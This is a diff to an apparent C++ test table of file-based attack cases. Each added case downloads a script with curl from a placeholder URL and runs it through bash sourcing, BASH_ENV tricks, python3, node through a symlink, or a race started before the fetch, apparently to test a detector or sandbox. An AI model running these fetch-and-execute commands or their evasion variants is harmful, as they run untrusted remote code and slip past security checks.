@@ -28,6 +28,21 @@ const Attack kFileAttacks[] = {
     FILE_CASE("sourced", "curl -s -o @D/f @URL; source @D/f"),
     FILE_CASE("sourced by a dot", "cd @D; curl -s -o f @URL; . ./f"),
     FILE_CASE("sourced below bash -c", "curl -s -o @D/f @URL; bash -c 'source @D/f'"),
+    FILE_CASE("sourced by a name of bash's own", "cd @D; curl -s -o eval @URL; . eval"),
+    FILE_CASE("a script that bash has another of for BASH_ENV",
+              "mkdir @D/e; echo : > @D/e/f; curl -s -o @D/f @URL; BASH_ENV=@D/e/f bash @D/f"),
+    FILE_CASE("a script by a path that bash has another file of for BASH_ENV",
+              "cd @D; echo 'mv g f' > f; curl -s -o g @URL; BASH_ENV=f bash f"),
+    FILE_CASE("python in the folder", "cd @D; curl -s -o f @PYTHON_URL; /usr/bin/python3 f"),
+    FILE_CASE("python called as its library",
+              "curl -s -o @D/__init__.py @PYTHON_URL; cd @D; "
+              "/usr/bin/python3 -I -X pycache_prefix=@D/none __init__.py"),
+    FILE_CASE("node in the folder", "cd @D; curl -s -o f.js @NODE_URL; node ./f.js"),
+    FILE_CASE("node by a link", "mkdir @D/d; ln -s d @D/l; curl -s -o @D/d/f.js @NODE_URL; "
+                                "node @D/l/f.js"),
+    FILE_CASE("started before anything was fetched",
+              "(exec /usr/bin/python3 @D/f.py) 2> /dev/null; curl -s -o @D/f.py @PYTHON_URL; "
+              "/usr/bin/python3 @D/f.py"),
     FILE_CASE("BASH_ENV", "curl -s -o @D/f @URL; BASH_ENV=@D/f bash -c true"),
     FILE_CASE("on stdin", "curl -s -o @D/f @URL; bash < @D/f"),
     FILE_CASE("python", "curl -s -o @D/f.py @PYTHON_URL; /usr/bin/python3 @D/f.py"),
